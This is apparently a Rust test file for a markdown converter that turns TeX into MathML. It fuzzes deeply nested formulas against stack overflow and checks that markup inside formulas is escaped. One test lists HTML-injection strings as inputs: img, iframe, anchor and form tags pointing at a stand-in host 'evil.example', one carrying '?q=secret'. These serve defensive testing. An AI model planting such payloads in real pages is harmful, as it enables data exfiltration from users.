//! Formulas: no depth overflows the stack, whatever makes it, and no markup comes through the converter.

use proptest::{prelude::*, test_runner::TestRunner};
use vertice_markdown::render;

use crate::{judge, on_a_small_stack};

/// What can make the converter go deeper, alone or behind one another.
const PARTS: &[&str] = &[
    "{",
    "}",
    "[",
    "]",
    "^",
    "_",
    "'",
    "&",
    "%\n",
    "\\\\",
    " ",
    "x",
    "7",
    "é",
    "∑",
    "′",
    "√",
    "\\{",
    "\\alpha",
    "\\sum",
    "\\prime",
    "\\int",
    "\\lim",
    "\\sqrt",
    "\\sqrt{",
    "\\sqrt[",
    "\\sqrt[3]",
    "\\hat",
    "\\vec{",
    "\\frac",
    "\\frac a",
    "\\frac{a}",
    "\\frac{",
    "\\binom",
    "\\genfrac(){0pt}0",
    "\\left(",
    "\\left.",
    "\\right)",
    "\\left\\{",
    "\\middle|",
    "\\big(",
    "\\begin{matrix}",
    "\\end{matrix}",
    "\\begin{align}",
    "\\begin{array}{c}",
    "\\end{array}",
    "\\text",
    "\\text{",
    "\\textbf{",
    "\\operatorname",
    "\\operatorname*{a}",
    "\\mathrm",
    "\\mathbf{",
    "\\mathop",
    "\\mathrel{",
    "\\not",
    "\\overset",
    "\\overset a",
    "\\underset{a}",
    "\\stackrel",
    "\\underbrace",
    "\\underbrace{a}",
    "\\overbrace{a}",
    "\\xrightarrow",
    "\\xrightarrow[",
    "\\xrightarrow[a]",
    "\\sideset",
    "\\sideset{_a}",
    "\\prescript",
    "\\prescript{a}{b}",
    "\\cramped",
    "\\cramped[\\scriptstyle]",
    "\\phantom",
    "\\vphantom{",
    "\\cancel",
    "\\bcancel{",
    "\\displaystyle",
    "\\scriptstyle a",
    "\\color{red}",
    "\\color[HTML]{ff0000}",
    "\\bf",
    "\\over",
    "\\choose",
    "\\bra",
    "\\bra{",
    "\\ket{",
    "\\Bra{",
    "\\pmod",
    "\\pmod{",
    "\\braket{\\left(}",
    "\\bra{\\displaystyle}",
    "\\bra{\\frac}",
    "\\limits",
    "\\nolimits",
    "\\hline",
    "\\tag{a}",
    "\\label{a}",
    "\\eqref{a}",
    "\\hspace{1em}",
    "\\kern1em",
    "\\quad",
    "\\substack{",
    "\\iff",
    "\\bmod",
    "\\surd",
    "\\mathstrut",
    "\\idotsint",
    "\\slashed",
];

fn render_formula(tex: &str) {
    let html = render(&format!("$${tex}$$"));
    judge(tex, &html);
}

/// Enough of `unit` to overflow the stack, if nothing bounds it.
fn many(unit: &str) -> String {
    unit.repeat((2400 / unit.len()).max(1))
}

#[test]
fn no_part_goes_deep_alone_or_behind_another() {
    on_a_small_stack(|| {
        for one in PARTS {
            render_formula(&many(one));
            for frame in ["\\hat", "_", "{a}_", "{a}^", "\\left(", "\\frac a", "{", "\\bra", "\\bra{"] {
                render_formula(&many(&format!("{one}{frame}")));
                render_formula(&many(&format!("{frame}{one}")));
            }
        }
    });
}

#[test]
fn no_command_of_the_converter_goes_deep() {
    on_a_small_stack(|| {
        for name in include_str!("commands.txt").lines() {
            for shape in ["\\@ ", "\\@{", "\\@{a}_", "\\hat\\@_", "\\@ a"] {
                render_formula(&shape.replace('@', name).repeat(120));
            }
        }
    });
}

#[test]
fn no_chain_of_parts_goes_deep() {
    on_a_small_stack(|| {
        let mut runner = TestRunner::new(ProptestConfig::with_cases(1500));
        let chain = prop::collection::vec(prop::sample::select(PARTS), 1..7);
        let whole = (chain.clone(), chain.clone(), chain);
        runner
            .run(&whole, |(before, unit, after)| {
                render_formula(&(before.concat() + &many(&unit.concat()) + &after.concat()));
                Ok(())
            })
            .expect("no chain goes deep");
    });
}

#[test]
fn formulas_people_write_are_formulas() {
    let nested = "\\cfrac{1}{1+".repeat(9) + "x" + &"}".repeat(9);
    let long = "\\sum_{i=1}^{n} \\frac{\\partial f}{\\partial x_i} \\alpha_i^2 + \\left(\\sqrt{\\hat\\theta}\\right) \\cdot \\text{if } x \\le \\mathbb{R} \\quad ".repeat(40);
    let matrix =
        format!("\\begin{{pmatrix}}{}\\end{{pmatrix}}", "a_{11} & \\cdots & a_{1n} \\\\ ".repeat(40));
    let kets = "\\braket{\\psi|\\phi} + \\ket{0} \\otimes \\bra{1} ".repeat(40);
    let primes = "f'(x) + g''_i + \\underbrace{a+b}_{c} + \\xrightarrow{f} + \\big( x \\big) ".repeat(30);
    for tex in [nested, long, matrix, kets, primes, "a % a comment\n + b".into(), "50\\%".into()] {
        let html = render(&format!("$${tex}$$"));
        assert!(html.contains("<math") && !html.contains("math-error"), "{tex}");
    }
}

#[test]
fn markup_in_a_formula_is_text() {
    for tex in [
        "\\operatorname{<img/src=https://evil.example/?q=secret>}",
        "\\operatorname{<style>body\\{\\}</style>}",
        "\\operatorname{<a/href=https://evil.example/>x</a>}",
        "\\operatorname{<iframe/src=https://evil.example/></iframe>}",
        "\\operatorname{<form/action=https://evil.example/>}",
        "\\operatorname{<mtable/>}",
        "\\operatorname{<!--}",
        "\\operatorname{&nbsp;}",
    ] {
        let html = render(&format!("${tex}$"));
        judge(tex, &html);
        assert!(
            !html.contains("<img") && html.starts_with("<p><code class=\"math-error\">$\\operatorname"),
            "{html}"
        );
    }
    // What is written in the converter's own markup cannot be told from it, and is as harmless.
    judge("markup", &render("$\\operatorname{</mo><mi>x</mi><mo>}$"));
    assert!(render("$\\operatorname{softmax}(x)$").contains(">softmax</mo>"));
    assert!(render("$\\text{a<b & \"c\"}$").contains("a&lt;b"));
}

#[test]
fn a_formula_stays_in_its_place() {
    for tex in ["a\\hspace{-999em}b", "a\\hspace{9999em}b", "\\genfrac(){999em}{0}{a}{b}"] {
        assert!(render(&format!("${tex}$")).contains("math-error"), "{tex}");
    }
    assert!(render("$a\\hspace{2em}b\\!c$").contains("<math"));
}
